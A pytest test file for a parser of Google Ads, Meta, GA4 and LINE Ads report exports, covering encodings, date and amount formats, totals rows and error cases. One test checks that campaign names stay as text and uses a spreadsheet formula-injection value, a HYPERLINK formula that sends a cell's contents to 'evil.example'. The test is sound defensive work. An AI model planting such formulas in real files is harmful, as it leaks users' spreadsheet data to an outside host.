"""The exports as the tools write them, read to the expected rows and totals."""

import codecs
import contextlib
import io
from datetime import date
from operator import attrgetter

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import Workbook

from crewplan.lib.xlsxfile import UnusableFile
from crewplan.measure import parse as parse_module
from crewplan.measure.parse import (
    ColumnMap,
    Layout,
    fold,
    parse,
    parse_amount,
    parse_count,
    parse_day,
    signature,
    template_csv,
)

TODAY = date(2026, 12, 1)

GOOGLE_EN = """Campaign report
"November 1, 2026 - November 2, 2026"
Day,Campaign,Campaign type,Currency code,Cost,Impr.,Clicks,Conversions,Conv. value
2026-11-01,雙11 限時優惠,Search,TWD,"1,234.50","12,000",300,12.50,"15,600.00"
2026-11-01,品牌影片,Video,TWD,500.00,"8,000",40,--,--
2026-11-02,雙11 限時優惠,Search,TWD,"2,000.00","20,100",410,20.00,"26,000.00"
Total: Account,,,TWD,"3,734.50","40,100",750,32.50,"41,600.00"
Total: Campaigns,,,TWD,"3,734.50","40,100",750,32.50,"41,600.00"
"""

GOOGLE_ZH_TSV = (
    "廣告活動報表\n2026年11月1日 - 2026年11月2日\n"
    "天\t廣告活動\t貨幣代碼\t費用\t曝光\t點擊\t轉換\t轉換價值\n"
    "2026/11/1\t化粧品 週年慶\tTWD\t1,000\t5,000\t100\t3.00\t4,500\n"
    "2026/11/2\t化粧品 週年慶\tTWD\t1,500\t6,000\t120\t4.00\t6,000\n"
    "總計：帳戶\t\tTWD\t2,500\t11,000\t220\t7.00\t10,500\n"
)

META_EN = (
    "Reporting starts,Reporting ends,Campaign name,Day,Amount spent (TWD),Impressions,"
    "Link clicks,Results,Purchases,Purchases conversion value\n"
    "2026-11-01,2026-11-30,中秋禮盒預購,2026-11-01,980.25,15200,241,6,5,7350\n"
    "2026-11-01,2026-11-30,中秋禮盒預購,2026-11-02,1020.75,16000,250,7,,\n"
)

META_ZH = (
    "分析報告開始,分析報告結束,行銷活動名稱,花費金額（TWD）,曝光次數,連結點擊次數,成果,購買次數,購買轉換值\n"
    "2026-11-01,2026-11-01,母親節蛋糕,800,9000,120,4,4,5200\n"
    "2026-11-02,2026-11-02,母親節蛋糕,700,8500,110,3,3,3900\n"
)

META_NO_DAY = (
    "Reporting starts,Reporting ends,Campaign name,Amount spent (TWD),Impressions\n"
    "2026-11-01,2026-11-30,中秋禮盒預購,29800,452000\n"
)

GA4 = """# ----------------------------------------
# 所有帳戶 / 麥香烘焙坊
# 報表：流量開發
# 開始日期：20261101
# 結束日期：20261102
# ----------------------------------------

工作階段預設管道群組,日期,工作階段,重要事件,總收益
Organic Search,20261101,1200,30,24000.5
Direct,20261101,800,12,9000
Organic Search,20261102,1100,25,21000
"""

GA4_EN = """# Start date: 20261101
# End date: 20261101
Session default channel group,Date,Sessions,Key events,Total revenue
Email,20261101,300,9,4500
"""

LINE = """LINE Ads 報表
日期,廣告活動,曝光次數,點擊次數,花費,轉換次數
2026/11/01,官方帳號好友募集,"10,000",150,"1,200",8
"""

GENERIC_ZH = (
    "日期,通路,活動,花費,曝光,點擊,轉換,營收\n"
    "115/11/01,LINE Ads,好友募集,NT$1,200,,,,\n"
    "115年11月2日,SEO,,,,,,3000\n"
)


def test_google_ads_english_csv_with_titles_totals_and_dashes() -> None:
    parsed = parse(GOOGLE_EN.encode(), today=TODAY)
    assert parsed.layout == Layout.GOOGLE_ADS and parsed.currency == "TWD"
    assert parsed.rows_read == 3 and parsed.header_line == 3
    first, video, _second = parsed.rows
    assert (first.day, first.channel, first.campaign) == (
        date(2026, 11, 1),
        "Google Ads",
        "雙11 限時優惠",
    )
    assert (first.spend, first.impressions, first.clicks, first.conversions, first.revenue) == (
        123450,
        12000,
        300,
        1250,
        1560000,
    )
    assert video.channel == "YouTube" and video.conversions is None and video.revenue is None
    assert sum(r.spend or 0 for r in parsed.rows) == 373450  # totals rows not counted
    assert (parsed.date_from, parsed.date_to) == (date(2026, 11, 1), date(2026, 11, 2))
    assert parsed.problems == []


@pytest.mark.parametrize(
    "bom, codec", [(codecs.BOM_UTF16_LE, "utf-16-le"), (codecs.BOM_UTF16_BE, "utf-16-be")]
)
def test_google_ads_chinese_utf16_tab_separated(bom: bytes, codec: str) -> None:
    parsed = parse(bom + GOOGLE_ZH_TSV.encode(codec), today=TODAY)
    assert parsed.layout == Layout.GOOGLE_ADS and parsed.encoding == "utf-16"
    assert [r.campaign for r in parsed.rows] == ["化粧品 週年慶"] * 2
    assert sum(r.spend or 0 for r in parsed.rows) == 250000
    assert sum(r.conversions or 0 for r in parsed.rows) == 700


def test_cp950_and_big5hkscs_files() -> None:
    parsed = parse(GOOGLE_ZH_TSV.encode("cp950"), today=TODAY)
    assert parsed.encoding == "cp950" and parsed.rows[0].campaign == "化粧品 週年慶"
    text = GOOGLE_ZH_TSV.replace("化粧品", "堃記")
    parsed = parse(text.encode("big5hkscs"), today=TODAY)
    assert parsed.rows[0].campaign.startswith("堃記")


def test_meta_english_with_day_breakdown() -> None:
    parsed = parse(("\ufeff" + META_EN).encode(), today=TODAY)
    assert parsed.layout == Layout.META_ADS and parsed.currency == "TWD"
    assert [r.day for r in parsed.rows] == [date(2026, 11, 1), date(2026, 11, 2)]
    first = parsed.rows[0]
    assert (first.channel, first.spend, first.clicks, first.conversions, first.revenue) == (
        "Meta",
        98025,
        241,
        500,
        735000,
    )
    assert dict(first.extras) == {"results": 600, "purchases": 500}


def test_meta_chinese_full_width_parentheses_day_from_equal_dates() -> None:
    parsed = parse(META_ZH.encode(), today=TODAY)
    assert parsed.layout == Layout.META_ADS and parsed.currency == "TWD"
    assert [r.spend for r in parsed.rows] == [80000, 70000]
    assert [r.day for r in parsed.rows] == [date(2026, 11, 1), date(2026, 11, 2)]


def test_meta_without_day_breakdown_is_refused() -> None:
    with pytest.raises(UnusableFile) as error:
        parse(META_NO_DAY.encode(), today=TODAY)
    assert error.value.code == "no_day_breakdown"


def test_ga4_with_comment_lines_in_both_languages() -> None:
    parsed = parse(GA4.encode("utf-8"), today=TODAY)
    assert parsed.layout == Layout.GA4
    assert [(r.channel, r.campaign) for r in parsed.rows][:2] == [
        ("Organic Search", ""),
        ("Direct", ""),
    ]
    assert parsed.rows[0].revenue == 2400050 and dict(parsed.rows[0].extras) == {
        "sessions": 120000,
        "key_events": 3000,
    }
    english = parse(GA4_EN.encode(), today=TODAY)
    assert english.layout == Layout.GA4 and english.rows[0].channel == "Email"


def test_line_ads_report() -> None:
    parsed = parse(LINE.encode("cp950"), today=TODAY)
    assert parsed.layout == Layout.LINE_ADS
    row = parsed.rows[0]
    assert (row.channel, row.impressions, row.clicks, row.spend, row.conversions) == (
        "LINE Ads",
        10000,
        150,
        120000,
        800,
    )


def test_generic_template_with_roc_dates_and_missing_columns() -> None:
    parsed = parse(GENERIC_ZH.replace("NT$1,200", '"NT$1,200"').encode(), today=TODAY)
    assert parsed.layout == Layout.GENERIC
    assert [(r.day, r.channel, r.spend, r.revenue) for r in parsed.rows] == [
        (date(2026, 11, 1), "LINE Ads", 120000, None),
        (date(2026, 11, 2), "SEO", None, 300000),
    ]
    english = parse(template_csv("en").encode(), today=TODAY)
    chinese = parse(template_csv("zh-hant").encode(), today=TODAY)
    assert english.rows == chinese.rows and len(english.rows) == 2


def test_row_problems_with_their_lines() -> None:
    text = (
        "date,channel,campaign,spend\n"
        "2026-11-01,Meta,a,100\n"
        "someday,Meta,a,100\n"
        "2026-11-02,Meta,a,-5\n"
        "2026-11-03,Meta,a,1e3\n"
        "2026-12-25,Meta,a,100\n"
        "2026-11-01,Meta,a,100\n"
        "2026-11-01,Meta,b,100\n"
        "2026-11-01,Meta,b,50\n"
    )
    parsed = parse(text.encode(), today=TODAY)
    found = [(p.line, p.code, p.severity) for p in parsed.problems]
    assert found == [
        (3, "bad_date", "error"),
        (4, "negative_spend", "error"),
        (5, "bad_number", "error"),
        (6, "future_date", "warning"),
        (7, "duplicate_row", "warning"),
        (9, "rows_added_together", "warning"),
    ]
    assert [(r.campaign, r.spend) for r in parsed.rows] == [
        ("a", 10000),
        ("a", 10000),
        ("b", 15000),
    ]


def test_formula_looking_names_stay_text() -> None:
    names = ['=HYPERLINK("http://evil.example/?"&A1,"open")', "+1", "-2", "@SUM(A1)"]
    lines = "".join(f'2026-11-01,Meta,"{n.replace(chr(34), chr(34) * 2)}",10\n' for n in names)
    parsed = parse(("date,channel,campaign,spend\n" + lines).encode(), today=TODAY)
    assert [r.campaign for r in parsed.rows] == names


def test_unknown_header_then_mapped() -> None:
    text = 'Tag,Kanal,Kosten\n2026-11-01,Meta,"1,000"\n2026-11-02,Meta,500\n'
    parsed = parse(text.encode(), today=TODAY)
    assert parsed.layout == Layout.UNKNOWN and parsed.rows == []
    assert parsed.header == ("Tag", "Kanal", "Kosten") and len(parsed.sample) == 2
    mapped = parse(
        text.encode(), today=TODAY, mapping=ColumnMap({"date": 0, "channel": 1, "spend": 2})
    )
    assert mapped.layout == Layout.MAPPED and [r.spend for r in mapped.rows] == [100000, 50000]
    assert signature(parsed.header) == signature(("TAG", " kanal", "Ｋｏｓｔｅｎ"))


def test_a_google_ads_report_with_a_renamed_date_column_is_mapped() -> None:
    """No layout fits without a date column: the known columns come with the unknown
    header, the samples leave the total row out, and the mapped file keeps its currency
    (a column's, or a header's suffix) for the preview to ask for a rate."""
    text = (
        "廣告活動報表\n報表日期,廣告活動,貨幣代碼,費用 (USD)\n"
        "2026-11-01,雙11,USD,100.50\n\n總計：帳戶,,USD,100.50\n"
    )
    parsed = parse(text.encode(), today=TODAY)
    assert parsed.layout == Layout.UNKNOWN and parsed.header[0] == "報表日期"
    assert parsed.columns == {"campaign": 1, "currency": 2, "spend": 3}
    assert parsed.sample == [("2026-11-01", "雙11", "USD", "100.50")]
    by_column = ColumnMap({"date": 0, "currency": 2, "spend": 3}, channel="Google Ads")
    mapped = parse(text.encode(), today=TODAY, mapping=by_column)
    assert mapped.currency == "USD" and [r.spend for r in mapped.rows] == [10050]
    by_suffix = parse(
        text.replace("USD,", ",").encode(),
        today=TODAY,
        mapping=ColumnMap({"date": 0, "spend": 3}, channel="Google Ads"),
    )
    assert by_suffix.currency == "USD"


def test_xlsx_export() -> None:
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append(["Campaign report"])
    sheet.append(["Day", "Campaign", "Currency code", "Cost", "Impr.", "Clicks"])
    sheet.append([date(2026, 11, 1), "雙11", "TWD", 1234.5, 1000, 10])
    out = io.BytesIO()
    book.save(out)
    parsed = parse(out.getvalue(), today=TODAY)
    assert parsed.encoding == "xlsx" and parsed.rows[0].spend == 123450


@pytest.mark.parametrize(
    "data, code",
    [
        (codecs.BOM_UTF16_LE + "日期\t費用\n".encode("utf-16-le")[:-1], "truncated"),
        (b"PK\x03\x04not really a zip", "not_zip"),
        (b"", "empty_file"),
        ((",".join(f"c{i}" for i in range(10_000)) + "\n").encode(), "too_many_columns"),
        (
            b"Day,Cost,Currency code\n2026-11-01,1,TWD\n2026-11-02,1,USD\n",
            "several_currencies",
        ),
        (b"just some words\n", "no_table"),
    ],
)
def test_unusable_files_are_refused(data: bytes, code: str) -> None:
    with pytest.raises(UnusableFile) as error:
        parse(data, today=TODAY)
    assert error.value.code == code


@pytest.mark.parametrize(
    "text, expected",
    [
        ("2026-11-01", date(2026, 11, 1)),
        ("2026/1/5", date(2026, 1, 5)),
        ("20261101", date(2026, 11, 1)),
        ("115/11/01", date(2026, 11, 1)),
        ("115-11-01", date(2026, 11, 1)),
        ("115年11月1日", date(2026, 11, 1)),
        ("民國115年11月1日", date(2026, 11, 1)),
        ("2026年11月1日", date(2026, 11, 1)),
        ("1151101", date(2026, 11, 1)),
        ("Nov 1, 2026", date(2026, 11, 1)),
        ("Sunday, November 1, 2026", date(2026, 11, 1)),
        ("２０２６－１１－０１", date(2026, 11, 1)),
    ],
)
def test_dates(text: str, expected: date) -> None:
    assert parse_day(text) == expected


@pytest.mark.parametrize("text", ["151101", "2026-13-01", "soon", ""])
def test_bad_dates(text: str) -> None:
    with pytest.raises(ValueError):
        parse_day(text)


@pytest.mark.parametrize(
    "text, expected",
    [
        ("NT$1,234", 123400),
        ("$1,234.50", 123450),
        ("TWD 1,234", 123400),
        ("1234.565", 123456),
        ("1234.575", 123458),
        ("--", None),
        ("12.5%", 1250),
        ("１，２３４", 123400),
        ("(50)", -5000),
    ],
)
def test_amounts(text: str, expected: int | None) -> None:
    assert parse_amount(text) == expected


@pytest.mark.parametrize("text", ["1e3", "12,34,5x", "NaN", "Infinity"])
def test_bad_amounts(text: str) -> None:
    with pytest.raises(ValueError):
        parse_amount(text)


@settings(max_examples=200, deadline=None)
@given(st.binary(max_size=2000))
def test_any_bytes_are_read_or_refused(data: bytes) -> None:
    with contextlib.suppress(UnusableFile):
        parse(data, today=TODAY)


# ---- the column-wise reading of big files keeps to the row-by-row one ----------

NUMBER_CELLS = (
    "100",
    "12.5",
    "0.25",
    "007",
    "1,234.50",
    "NT$5",
    "-5",
    "--",
    "",
    "1e3",
    "1.",
    ".5",
    "12.345",
    "１２",
    " 7 ",
    "(30)",
    "12.5%",
    "99999999999999.99",
    "9999999999999.99",
    "1_000",
    "+3",
    "nan",
    "inf",
    "9999999999999999",  # 16 digits: times 100 still an int64
    "99999999999999999999",  # beyond an int64
)
PLAIN_CELLS = st.from_regex(r"\A[0-9]{1,14}(\.[0-9]{1,2})?\Z")


@settings(max_examples=300, deadline=None)
@given(st.lists(st.one_of(PLAIN_CELLS, st.sampled_from(NUMBER_CELLS)), min_size=1, max_size=30))
def test_a_column_of_amounts_reads_as_each_of_its_cells(cells: list[str]) -> None:
    expected_amounts: list[int | None] | None
    try:
        expected_amounts = [parse_amount(c) for c in cells]
    except ValueError:
        expected_amounts = None
    amounts = parse_module._plain_hundredths(cells)
    assert amounts is None or amounts == expected_amounts
    try:
        expected_counts: list[int | None] | None = [parse_count(c) for c in cells]
    except ValueError:
        expected_counts = None
    counts = parse_module._plain_counts(cells)
    assert counts is None or counts == expected_counts


@settings(max_examples=100, deadline=None)
@given(st.lists(PLAIN_CELLS.filter(lambda c: len(c.partition(".")[0]) <= 13), min_size=1))
def test_plain_amounts_take_the_column_path(cells: list[str]) -> None:
    assert parse_module._plain_hundredths(cells) == [parse_amount(c) for c in cells]


HEADERS = (
    "date,channel,campaign,spend,impressions,clicks,conversions,revenue",
    "date,channel,campaign,currency,spend,clicks,new customers",
    "Day,Campaign,Campaign type,Currency code,Cost,Impr.,Clicks,Conv. value",
)
ROW_CELLS = {
    "date": ("2026-11-01", "2026-11-02", " 2026/11/3 ", "115/11/04", "2027-01-01", "someday", ""),
    "channel": ("Meta", " Google Ads ", "", "LINE"),
    "campaign": ("a", "b ", "", "雙11"),
    "currency": ("TWD", " twd", "", "USD"),
    "campaign type": ("Search", "Video", "影片", ""),
}

SAME = {"day": "date", "currency code": "currency"}


@st.composite
def tables(draw: st.DrawFn) -> str:
    header = draw(st.sampled_from(HEADERS))
    names = header.split(",")
    lines = [header]
    for _ in range(draw(st.integers(0, 12))):
        kind = draw(st.sampled_from(["row", "row", "row", "short", "blank", "total"]))
        if kind == "blank":
            lines.append("")
            continue
        if kind == "total":
            lines.append("Total: account,,,100")
            continue
        cells = [
            draw(st.sampled_from(ROW_CELLS[SAME.get(fold(n), fold(n))]))
            if SAME.get(fold(n), fold(n)) in ROW_CELLS
            else draw(st.one_of(PLAIN_CELLS, st.sampled_from(NUMBER_CELLS)))
            for n in names
        ]
        if kind == "short":
            cells = cells[: draw(st.integers(1, len(cells) - 1))]
        lines.append(",".join(f'"{c}"' for c in cells))
    return "\n".join(lines) + "\n"


@settings(max_examples=300, deadline=None)
@given(tables())
def test_column_reading_gives_what_row_reading_gives(text: str) -> None:
    rows = parse_module._text_rows(text)
    head = parse_module._find_header(rows)
    assert head is not None
    layout = parse_module._layout_of(head.columns, head.cells, "")
    assert layout is not None
    plan = parse_module._Columns.of(head.columns, layout)
    body = rows[head.index + 1 :]
    channel = parse_module.LAYOUT_CHANNEL.get(layout, "")
    by_rows = parse_module._read_rows(body, head.index + 2, plan, TODAY, 100, channel)
    by_columns = parse_module._read_columns(body, head.index + 2, plan, TODAY, 100, channel)
    line = attrgetter("line")
    assert by_columns[0] == by_rows[0]
    assert sorted(by_columns[1], key=line) == sorted(by_rows[1], key=line)
    assert by_columns[2:4] == by_rows[2:4]
    if by_columns[4]:  # said distinct: it is
        assert len({r[1:4] for r in by_columns[0]}) == len(by_columns[0])


@pytest.mark.parametrize(
    ("cells", "hundredths", "counts"),
    [
        (["99999999999999999999", "7"], [9999999999999999999900, 700], [10**20 - 1, 7]),
        (["9999999999999999", "0"], [999999999999999900, 0], [9999999999999999, 0]),
        (["12.5", "nan"], None, None),
        (["12.5", "inf"], None, None),
        (["12.5", "1e3"], None, None),
        (["12.50", "3"], [1250, 300], None),
        (["9999999999999.99", "1"], [999999999999999, 100], None),
        (["10000000000000.5", "1"], None, None),  # 1e13 and above: read cell by cell
    ],
)
def test_columns_at_the_edges_of_the_column_path(
    cells: list[str], hundredths: list[int] | None, counts: list[int] | None
) -> None:
    assert parse_module._plain_hundredths(cells) == hundredths
    assert parse_module._plain_counts(cells) == counts


def test_keys_are_distinct_unless_one_comes_twice() -> None:
    days = [date(2026, 11, 2), date(2026, 11, 1), date(2026, 11, 2), date(2026, 11, 1)]
    channels = ["Meta", "Meta", "LINE", "Meta"]
    assert parse_module._keys_distinct(days, channels, ["a", "a", "a", "b"])
    assert not parse_module._keys_distinct(days, channels, ["a", "a", "a", "a"])
    assert not parse_module._keys_distinct(days, channels, None)
    assert parse_module._keys_distinct(days[:3], channels[:3], None)


def test_a_big_file_read_by_columns_reports_each_bad_cell() -> None:
    good = "".join(f"2026-11-{1 + n % 28:02d},Meta,c{n},{n}.5,{n},1,0.5,10\n" for n in range(3000))
    text = (
        "date,channel,campaign,spend,impressions,clicks,conversions,revenue\n"
        + good
        + "2026-11-01,Meta,x,1e3,5,1,0,0\n"
        + "2026-11-02,Meta,y,12,5.5,1,0,0\n"
        + "2026-11-03,Meta,z,-4,5,1,0,0\n"
    )
    parsed = parse(text.encode(), today=TODAY)
    assert [(p.line, p.code, p.params.get("field")) for p in parsed.problems] == [
        (3002, "bad_number", "spend"),
        (3003, "bad_number", "impressions"),
        (3004, "negative_spend", None),
    ]
    assert len(parsed.rows) == 3000 and parsed.rows[0].spend == 50


def test_the_columns_kept_by_the_reading_are_the_rows() -> None:
    text = "date,channel,campaign,spend,sessions\n" + "".join(
        f"2026-11-{1 + n // 3:02d},Meta,c{n % 3},{n}.25,{n if n % 2 else '--'}\n" for n in range(30)
    )
    parsed = parse(text.encode(), today=TODAY)
    assert parsed._fields is not None  # kept, not built again
    assert tuple(map(tuple, parsed.fields())) == tuple(zip(*parsed.rows, strict=True))
    assert parsed.rows[1].extras == (("sessions", 100),) and parsed.rows[0].extras == ()
